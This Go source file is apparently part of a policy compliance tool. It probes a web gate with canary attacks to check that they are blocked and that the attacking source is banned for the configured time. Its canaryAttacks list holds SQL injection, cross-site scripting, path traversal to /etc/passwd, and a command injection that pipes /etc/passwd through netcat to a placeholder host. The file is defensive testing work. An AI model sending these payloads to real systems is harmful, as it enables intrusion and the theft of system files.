package control

import (
	"context"
	"io"
	"net/http"
	"net/netip"
	"net/url"
	"strings"
	"time"

	"clause.dev/clause/internal/policy"
)

// AttackBans keeps clauses that say attacks are stopped and their sources banned.
type AttackBans struct {
	For policy.Term `param:"for" doc:"how long a source is banned"`
}

// Check finds what is no length of time.
func (c *AttackBans) Check(*policy.Policy) error {
	if lasts, ok := c.For.Longest(); !ok || lasts <= 0 || c.For.Form != policy.Within {
		return problem("attack-bans", "for", "%q is not how long a ban lasts", c.For).WithHint("for example 1 hour")
	}
	return nil
}

// Plan has the gate look into forms, and ban for the longest time that is promised.
func (c *AttackBans) Plan(p *Plan) {
	lasts, _ := c.For.Longest()
	p.Ban = max(p.Ban, lasts)
}

// canaryAttacks are of the kinds that every tester tries first. They do nothing wherever they are sent.
var canaryAttacks = []struct{ kind, text string }{
	{"SQL injection", "' UNION SELECT canary FROM canaries WHERE '1'='1"},
	{"cross-site scripting", `"><script>alert('canary')</script>`},
	{"reading files", "../../../../etc/passwd"},
	{"running commands", "; cat /etc/passwd | nc canary.invalid 9"},
}

// enoughAttacks are more than a source may send without being banned.
const enoughAttacks = 5

// Probe attacks a canary application behind a gate as the server's own is, until the source is banned, waits until it
// is not by moving that gate's clock; and attacks the gate that people come through, over the network.
func (c *AttackBans) Probe(ctx context.Context, s *System) Finding {
	t := &trial{}
	if s.Behind == nil || s.Policy == nil {
		t.hurdle("the policy, or the gate, cannot be seen.")
		return t.finding("")
	}
	app := &taker{}
	gate, err := s.Behind(app)
	if err != nil {
		t.hurdle("no gate could be made: %v", err)
		return t.finding("")
	}
	b := &besieged{t, gate, app}
	if b.attacks(ctx) {
		b.ban(ctx, longestBan(s.Policy))
	}
	c.real(ctx, t, s)
	return t.finding("Attacks in forms are stopped before the application sees them, and where several come from is banned for " + c.For.String() + ".")
}

// longestBan is the longest that the policy promises.
func longestBan(p *policy.Policy) (longest time.Duration) {
	for _, clause := range p.Clauses {
		for _, k := range clause.Keep {
			if term, ok := k.Params["for"].(policy.Term); ok && k.Control == "attack-bans" {
				lasts, _ := term.Longest()
				longest = max(longest, lasts)
			}
		}
	}
	return longest
}

// besieged is a canary application behind a gate, under attack.
type besieged struct {
	*trial
	gate Behind
	app  *taker
}

// send sends a form from an address, and reports whether the application saw it.
func (b *besieged) send(ctx context.Context, from netip.Addr, text string) (a answer, arrived bool) {
	before := b.app.taken
	r, err := attackForm(ctx, "https://"+b.gate.Host+"/", text)
	if err != nil {
		b.hurdle("a form could not be made: %v", err)
		return a, false
	}
	r.RemoteAddr = netip.AddrPortFrom(from, 4711).String()
	w := &written{header: http.Header{}}
	b.gate.ServeHTTP(w, r)
	return answer{status: w.status, header: w.sent, body: w.body.Bytes()}, b.app.taken > before
}

// attackForm is a form with a text in it.
func attackForm(ctx context.Context, to, text string) (*http.Request, error) {
	r, err := http.NewRequestWithContext(ctx, http.MethodPost, to, strings.NewReader(url.Values{"name": {"Canary"}, "text": {text}}.Encode()))
	if err == nil {
		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	}
	return r, err
}

// harmless is what a person could write.
const harmless = "It's a canary's note, and nothing else."

// admits reports whether an ordinary form from an address arrives. It is sure of that only if the form arrives, or is
// refused: a gate in trouble proves nothing.
func (b *besieged) admits(ctx context.Context, from netip.Addr) (in, sure bool) {
	a, arrived := b.send(ctx, from, harmless)
	if !arrived && a.status != http.StatusForbidden {
		b.hurdle("an ordinary form to the canary application is answered with %s", a)
		return false, false
	}
	return arrived, true
}

// attacks sends one of each kind, each from somewhere else. It is false where the gate is shut.
func (b *besieged) attacks(ctx context.Context) bool {
	switch in, sure := b.admits(ctx, spare(0)); {
	case !sure:
		return false
	case !in:
		b.hurdle("an ordinary form does not reach the canary application.")
		return false
	}
	for i, attack := range canaryAttacks {
		switch a, arrived := b.send(ctx, spare(byte(i+1)), attack.text); {
		case arrived:
			b.breach("A canary attack (%s) reaches the application.", attack.kind)
		case a.status != http.StatusForbidden:
			b.hurdle("a canary attack (%s) is answered with %s", attack.kind, a)
		default:
			b.good("A canary attack (%s) is stopped.", attack.kind)
		}
	}
	return true
}

// spare is an address that nobody has (RFC 2544).
func spare(last byte) netip.Addr { return netip.AddrFrom4([4]byte{198, 18, 0, last}) }

// ban attacks from one address until it is banned, and looks how long that lasts.
func (b *besieged) ban(ctx context.Context, lasts time.Duration) {
	if b.gate.Later == nil {
		b.hurdle("the clock of the canary gate cannot be moved.")
		return
	}
	from, other := spare(100), spare(200)
	for range enoughAttacks {
		if a, arrived := b.send(ctx, from, canaryAttacks[0].text); !arrived && a.status != http.StatusForbidden {
			b.hurdle("a canary attack is answered with %s", a)
			return
		}
	}
	margin := min(lasts/10, time.Minute)
	for _, look := range []struct {
		from  netip.Addr
		later time.Duration
		in    bool
		wrong string
	}{
		{from, 0, false, "The source of " + plural(enoughAttacks, "attack") + " is not banned."},
		{other, 0, true, "With the source of an attack others are banned."},
		{from, lasts - margin, false, "The source of an attack is let in before " + lasts.String() + " are over."},
		{from, 2 * margin, true, "The source of an attack is banned for longer than " + lasts.String() + "."},
	} {
		b.gate.Later(look.later)
		switch in, sure := b.admits(ctx, look.from); {
		case !sure:
			return
		case in != look.in:
			b.breach("%s", look.wrong)
			return
		}
	}
	b.good("The source of several attacks is banned for %s, and nobody else is.", lasts)
}

// real attacks the gate that people come through, over the network, from an address of this machine that nobody uses.
// Where that leads is a path that no application has.
func (c *AttackBans) real(ctx context.Context, t *trial, s *System) {
	if s.Application == "" {
		t.note("No application stands behind the gate (serve --upstream): what reaches one that stands elsewhere is not seen.")
		return
	}
	for i := range s.Listeners {
		l := &s.Listeners[i]
		if l.URL != s.Application {
			continue
		}
		from, ok := unlisted(l.Proxies)
		if !ok || !l.listed(from) {
			t.note("The gate that people come through admits no made-up address of this machine: it was not attacked over the network.")
			return
		}
		c.siege(ctx, t, l, from)
		return
	}
	t.hurdle("the gate that people come through cannot be reached.")
}

func (c *AttackBans) siege(ctx context.Context, t *trial, l *Listener, from netip.Addr) {
	at := l.URL + "/canary-" + token()
	look, err := http.NewRequestWithContext(ctx, http.MethodGet, at, nil)
	if err != nil {
		t.hurdle("the gate that people come through has no address.")
		return
	}
	switch a, err := l.ask(from, look); {
	case noSuchAddress(err):
		t.note("This machine cannot connect from another address of its own: the gate that people come through was not attacked.")
		return
	case err != nil:
		t.hurdle("the gate that people come through: %v", err)
		return
	case a.status == http.StatusUnauthorized || a.status == http.StatusForbidden: // no form is looked into, and to be refused is nothing new
		t.note("The gate that people come through asks who comes before it looks into anything: it was not attacked over the network.")
		return
	}
	for i := range enoughAttacks {
		r, err := attackForm(ctx, at, canaryAttacks[i%len(canaryAttacks)].text)
		if err != nil {
			t.hurdle("a form could not be made: %v", err)
			return
		}
		switch a, err := l.ask(from, r); {
		case err != nil:
			t.hurdle("the gate that people come through: %v", err)
			return
		case a.status != http.StatusForbidden:
			t.breach("At the gate that people come through, an attack is not stopped (%s).", a)
			return
		}
	}
	switch a, err := l.ask(from, look); {
	case err != nil:
		t.hurdle("the gate that people come through: %v", err)
	case a.status != http.StatusForbidden:
		t.breach("At the gate that people come through, the source of %s is not banned (%s).", plural(enoughAttacks, "attack"), a)
	default:
		t.good("At the gate that people come through, attacks over the network are stopped, and their source is banned.")
	}
}

// taker is a canary application that takes what it is sent, without a network.
type taker struct{ taken int }

// RoundTrip answers.
func (a *taker) RoundTrip(r *http.Request) (*http.Response, error) {
	a.taken++
	if r.Body != nil {
		_, _ = io.Copy(io.Discard, r.Body)
	}
	return &http.Response{StatusCode: http.StatusNoContent, Proto: "HTTP/1.1", ProtoMajor: 1, ProtoMinor: 1, Header: http.Header{}, Request: r, Body: http.NoBody}, nil
}
